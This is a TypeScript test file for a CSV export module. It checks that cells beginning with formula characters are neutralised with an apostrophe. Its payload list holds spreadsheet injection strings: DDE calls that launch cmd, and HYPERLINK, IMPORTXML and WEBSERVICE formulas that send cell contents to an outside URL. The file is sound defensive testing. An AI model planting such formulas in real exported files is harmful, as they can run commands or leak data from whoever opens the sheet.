import { text } from "node:stream/consumers";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { promiseLine } from "../../test/support/promise-line.ts";
import { readCsv } from "../../test/support/read-csv.ts";
import { csvRecord, csvStream } from "./csv.ts";

async function* once<T>(...batches: T[]) {
  yield* batches;
}

/** What no cell may begin with, blanks and what nobody sees left aside. */
const computed = /^(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠])/u;

describe("payloads that spreadsheets would compute", () => {
  const acts = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.com",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.com")',
    "A1:A9",
    "2+5+cmd|' /C calc'!A0",
    "",
  ];
  const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"];
  const before = ["", " ", "\t", "\r\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "\u202e"];
  const payloads = before.flatMap((hidden) =>
    // Behind something else a tab or a line break is a blank like others.
    signs
      .filter((sign) => hidden === "" || sign.trim() !== "")
      .flatMap((sign) => acts.map((act) => `${hidden}${sign}${act}`)),
  );

  test("are many", () => {
    expect(new Set(payloads).size).toBeGreaterThan(200);
  });

  test("stay text, each a cell of its own, in a cell's middle place too", () => {
    for (const payload of payloads) {
      const [row = []] = readCsv(csvRecord(["a", payload, "b"]));
      expect(row).toHaveLength(3);
      expect(row[1]).toBe(`'${payload}`);
    }
    promiseLine(18, "payloads in CSV that a spreadsheet would compute", `0 of ${new Set(payloads).size}`);
  });
});

describe("a CSV record", () => {
  test.for([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "so"', '"say ""so"""'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["a;=1+1", '"a;=1+1"'],
    ["+81312345678", "'+81312345678"],
    ["=HYPERLINK(1)", "'=HYPERLINK(1)"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", '"\'\t=1"'],
    ["\r=1", '"\'\r=1"'],
    ["＝1", "'＝1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠1", "'＠1"],
    ["", ""],
  ] as const)("writes %j as %j", ([value, written]) => {
    expect(csvRecord([value, 1])).toBe(`${written},1\r\n`);
  });

  test("leaves numbers, truth and nothing as they are", () => {
    expect(csvRecord([-1, 1.5, true, null])).toBe("-1,1.5,true,\r\n");
  });
});

test("any text comes back as it was, but for the apostrophe, and never as a formula", () => {
  const cell = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.string({
      unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "'", "＝", " ", "a"),
    }),
  );
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
      const read = readCsv(rows.map(csvRecord).join(""));
      expect(read).toHaveLength(rows.length);
      for (const [at, row] of rows.entries()) {
        expect(read[at]).toHaveLength(row.length);
        for (const [place, value] of row.entries()) {
          const back = read[at]?.[place] ?? "";
          expect([value, `'${value}`]).toContain(back);
          expect(back).not.toMatch(computed);
        }
      }
    }),
  );
});

test("a stream begins with the byte order mark and its header, and ends where its batches do", async () => {
  const file = csvStream(["Name", "Memo"], once([["山田", "=1"]], [], [["Smith", null]]));
  expect(await text(file)).toBe("Name,Memo\r\n山田,'=1\r\nSmith,\r\n");
  const raw: Buffer[] = [];
  for await (const chunk of csvStream(["Name"], once<string[][]>())) raw.push(Buffer.from(chunk));
  expect(Buffer.concat(raw).toString("hex")).toBe(Buffer.from("\uFEFFName\r\n").toString("hex"));
});

test("a batch is asked for only when the one before has gone", async () => {
  let asked = 0;
  async function* endless() {
    for (;;) {
      asked++;
      yield [["x".repeat(1000)]];
    }
  }
  const file = csvStream(["A"], endless());
  await new Promise((resolve) => file.once("readable", resolve));
  await new Promise((resolve) => setTimeout(resolve, 50));
  expect(asked).toBeLessThan(200);
  file.destroy();
});
